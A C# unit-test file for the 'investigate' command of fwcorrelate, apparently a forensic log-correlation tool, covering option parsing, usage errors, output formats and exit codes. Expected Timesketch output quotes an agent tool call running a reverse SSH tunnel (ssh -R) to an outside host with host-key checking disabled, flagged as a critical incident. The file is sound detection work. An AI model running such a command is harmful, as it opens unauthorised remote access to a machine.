// SPDX-License-Identifier: Apache-2.0
using System.Text.Json;
using FwCorrelate.Cases;
using FwCorrelate.Cli.CommandLine;
using FwCorrelate.Matching;
using FwCorrelate.Service;
using NodaTime;

namespace FwCorrelate.Cli.Tests.CommandLine;

[TestClass]
public sealed class InvestigateCommandTests
{
    private readonly string _case = Directory.CreateTempSubdirectory("fwcorrelate-").FullName;
    private InvestigationOptions? _options;
    private Func<InvestigationResult> _result = Sample.Busy;

    [TestCleanup]
    public void Cleanup() => Directory.Delete(_case, recursive: true);

    [TestMethod]
    public void Options_AllGiven_ReachTheInvestigation()
    {
        var rules = Directory.CreateDirectory(Path.Combine(_case, "my-rules")).FullName;
        var run = Run("investigate", _case, "--rules", rules, "--no-default-rules", "--from", "2026-01-15 03:00", "--to", "2026-01-15T05:00:00Z",
            "--tz", "Asia/Shanghai", "--zone", "firewall=Asia/Tokyo", "--clock-offset", "flows=23s", "--clock-offset", "firewall=-500ms",
            "--out", Path.Combine(_case, "out"), "--min-level", "HIGH", "--threads", "3", "--log-format", "aws-vpc-flow", "--format", "csv", "--quiet");

        Assert.AreEqual(ExitCode.RuleUnusable, run.Code, run.Error);
        Assert.AreEqual("", run.Error);
        var options = _options!;
        Assert.AreEqual(_case, options.CasePath);
        Assert.AreSequenceEqual(new[] { rules }, options.Rules.ToArray());
        Assert.IsTrue(options.NoDefaultRules);
        Assert.AreEqual(Instant.FromUtc(2026, 1, 14, 19, 0), options.From);
        Assert.AreEqual(Instant.FromUtc(2026, 1, 15, 5, 0), options.To);
        Assert.AreEqual("Asia/Shanghai", options.DisplayZone.Id);
        Assert.AreEqual("Asia/Tokyo", options.Zones["firewall"].Id);
        Assert.AreEqual(Duration.FromSeconds(23), options.ClockOffsets["flows"]);
        Assert.AreEqual(Duration.FromMilliseconds(-500), options.ClockOffsets["firewall"]);
        Assert.AreEqual(Path.Combine(_case, "out"), options.OutputFolder);
        Assert.AreEqual(Level.High, options.MinLevel);
        Assert.AreEqual(3, options.Threads);
        Assert.AreEqual("aws-vpc-flow", options.LogFormat);
    }

    [TestMethod]
    public void Logs_SeveralAfterOneOption_AreAllInputs()
    {
        var (a, b) = (File("a.log"), File("b.log"));
        var run = Run("investigate", "--logs", a, b, "-", "--timeline", a, "--leases", b);

        Assert.AreEqual(ExitCode.RuleUnusable, run.Code, run.Error);
        Assert.AreSequenceEqual(new[] { a, b, "-" }, _options!.Logs.ToArray());
        Assert.IsNull(_options.CasePath);
    }

    [TestMethod]
    [DataRow("investigate", "nothing to investigate: expected a case folder, or --logs PATH with --timeline and --leases")]
    [DataRow("investigate {case} --logs -", "'{case}' and --logs, --timeline, --leases or --gpu are both given: expected a case folder or the options, not both")]
    [DataRow("investigate {case}/none", "case '{case}/none' does not exist: expected a folder. Looked at {case}/none")]
    [DataRow("investigate {case} --format yaml", "--format 'yaml' is not known: expected table, jsonl, csv, timesketch or html.")]
    [DataRow("investigate {case} --formt csv", "unknown option '--formt'. Did you mean '--format'?")]
    [DataRow("investigate {case} --quite", "unknown option '--quite'. Did you mean '--quiet'?")]
    [DataRow("investigate --logs - --quite", "unknown option '--quite'. Did you mean '--quiet'?")]
    [DataRow("investigate {case} --tz", "--tz has no value: expected --tz ZONE")]
    [DataRow("investigate {case} --tz UTC --tz UTC", "--tz is given 2 times: expected it once")]
    [DataRow("investigate {case} --fail-on severe", "--fail-on 'severe' is not known: expected informational, low, medium, high or critical.")]
    [DataRow("investigate {case} --threads 0", "--threads '0' is not a number of threads: expected 1 to 1024")]
    [DataRow("investigate {case} --from 2026-01-15 --to 2026-01-15", "--from 2026-01-15T00:00:00Z is not before --to 2026-01-15T00:00:00Z: expected an interval that holds something")]
    [DataRow("investigate {case} --no-default-rules", "--no-default-rules leaves no rules: expected --rules PATH with it")]
    [DataRow("investigate {case} --slow-regex 0s", "--slow-regex '0s' is no limit: expected more than nothing and at most one minute, such as 100ms")]
    [DataRow("investigate {case} --rules {case}/none", "--rules '{case}/none' does not exist: expected a file or a folder. Looked at {case}/none")]
    [DataRow("investigate {case} --force", "--force replaces nothing without --out: expected --out DIR with it")]
    [DataRow("investigate {case} second", "Unrecognized command or argument 'second'")]
    [DataRow("investigate {case} --log-format nosuch", "--log-format nosuch: no such format. Known: ")]
    public void Usage_Wrong_IsOneLineAHintAndThree(string line, string message)
    {
        var run = Run([.. line.Replace("{case}", _case, StringComparison.Ordinal).Split(' ')]);

        Assert.AreEqual(ExitCode.WrongUsage, run.Code);
        Assert.IsNull(_options, "nothing may run");
        Assert.AreEqual("", run.Output);
        Assert.StartsWith($"fwcorrelate: {message.Replace("{case}", _case, StringComparison.Ordinal)}", run.Error);
        Assert.EndsWith("\nTry: fwcorrelate investigate --help\n", run.Error);
        Assert.HasCount(3, run.Error.Split('\n'));
    }

    [TestMethod]
    public void Out_FolderWithFiles_IsRefusedUnlessForced()
    {
        File("x");
        var refused = Run("investigate", _case, "--out", _case);
        Assert.AreEqual(ExitCode.WrongUsage, refused.Code);
        Assert.Contains("the output folder exists and is not empty. Choose another one, or replace the results in it with --force", refused.Error);

        Assert.AreEqual(ExitCode.RuleUnusable, Run("investigate", _case, "--out", _case, "--force").Code);
        Assert.IsTrue(_options!.Force);
    }

    [TestMethod]
    public void Output_Piped_IsOneEcsDocumentPerIncidentAndNotesGoToStandardError()
    {
        var run = Run("investigate", _case);

        var lines = run.Output.TrimEnd('\n').Split('\n');
        Assert.HasCount(14, lines);
        Assert.AreEqual("INC-000000000000", JsonDocument.Parse(lines[0]).RootElement.GetProperty("fwcorrelate").GetProperty("incident").GetProperty("id").GetString());
        Assert.Contains("rule unusable: rules/own.yml:7:5", run.Error);
        Assert.Contains("not read: notes.txt: nothing recognises it", run.Error);
        Assert.Contains("rejected: 100 records", run.Error);
    }

    [TestMethod]
    public void Output_OnATerminal_IsThePage()
    {
        var run = Run(terminal: true, "investigate", _case);

        Assert.StartsWith("cases/0412: 2.4 GB in 2 of 3 files", run.Output);
        Assert.AreEqual("", run.Error);
    }

    [TestMethod]
    public void MinLevel_JsonLines_LeavesLowerIncidentsOut() =>
        Assert.HasCount(12, Run("investigate", _case, "--min-level", "critical").Output.TrimEnd('\n').Split('\n'));

    [TestMethod]
    public void Csv_Incidents_IsAHeaderAndARowEach()
    {
        var lines = Run("investigate", _case, "--format", "csv").Output.TrimEnd().Split("\r\n");

        Assert.HasCount(15, lines);
        Assert.StartsWith("incident,level,rule,", lines[0]);
        Assert.Contains("INC-000000000000,critical,Reverse SSH tunnel to an unknown host,", lines[1]);
    }

    [TestMethod]
    public void Timesketch_Incidents_HasTheRequiredColumnsInTimeOrder()
    {
        var lines = Run("investigate", _case, "--format", "timesketch").Output.TrimEnd().Split("\r\n");

        Assert.StartsWith("message,datetime,timestamp_desc,", lines[0]);
        Assert.StartsWith("bash call_17: ssh -f -N -R 2222:localhost:22 root@203.0.113.9 -o StrictHostKeyChecking=no,2026-01-15T03:12:44.000000Z,Tool Call Start,", lines[1]);
    }

    [TestMethod]
    public void FailOn_FindingsOnly_ExitsWithOne()
    {
        _result = () => Sample.Busy() with { RuleErrors = [] };

        Assert.AreEqual(ExitCode.Done, Run("investigate", _case).Code);
        Assert.AreEqual(ExitCode.Findings, Run("investigate", _case, "--fail-on", "critical").Code);
        Assert.AreEqual(ExitCode.InputDamaged, Run("investigate", _case, "--fail-on", "critical", "--strict").Code);
    }

    [TestMethod]
    public void Interrupted_Run_PrintsWhatItHasAndExitsWith130()
    {
        _result = () => Sample.Busy() with { Interrupted = true };
        var run = Run(terminal: true, "investigate", _case);

        Assert.AreEqual(ExitCode.Interrupted, run.Code);
        Assert.Contains("INTERRUPTED", run.Output);
        Assert.Contains("Reverse SSH tunnel", run.Output);
    }

    [TestMethod]
    public void Cancelled_BeforeAnyResult_ExitsWith130()
    {
        _result = () => throw new OperationCanceledException();

        Assert.AreEqual(ExitCode.Interrupted, Run("investigate", _case).Code);
    }

    [TestMethod]
    public void Failure_AfterTheInterruption_StaysAnInterruption()
    {
        var run = CliRun.Of(["investigate", _case], false, (_, _, _, _) => throw new IOException("gone"), interrupted: new CancellationToken(true));

        Assert.AreEqual(ExitCode.Interrupted, run.Code);
        Assert.AreEqual("fwcorrelate: gone\n", run.Error);
    }

    [TestMethod]
    public void Configuration_WrongInsideTheRun_IsThree()
    {
        _result = () => throw new ConfigurationException("case.yml:3: unknown key 'zonez'");
        var run = Run("investigate", _case);

        Assert.AreEqual(ExitCode.WrongUsage, run.Code);
        Assert.AreEqual("fwcorrelate: case.yml:3: unknown key 'zonez'\nTry: fwcorrelate investigate --help\n", run.Error);
    }

    [TestMethod]
    [DataRow(typeof(IOException), 4)]
    [DataRow(typeof(InvalidDataException), 4)]
    [DataRow(typeof(UnauthorizedAccessException), 4)]
    [DataRow(typeof(FormatException), 70)]
    [DataRow(typeof(InvalidOperationException), 70)]
    public void Failure_OfAnyKind_IsOneLineWithoutAStackTrace(Type type, int code)
    {
        _result = () => throw (Exception)Activator.CreateInstance(type, "it \u001b broke\n   at nowhere")!;
        var run = Run("investigate", _case);

        Assert.AreEqual((ExitCode)code, run.Code);
        Assert.HasCount(2, run.Error.Split('\n'), run.Error);
        Assert.Contains("it <U+001B> broke", run.Error);
    }

    private string File(string name)
    {
        var path = Path.Combine(_case, name);
        System.IO.File.WriteAllText(path, "x");
        return path;
    }

    private CliRun Run(params string[] arguments) => Run(terminal: false, arguments);

    private CliRun Run(bool terminal, params string[] arguments) => CliRun.Of(arguments, terminal, (options, _, _, _) =>
    {
        _options = options;
        return _result();
    });
}
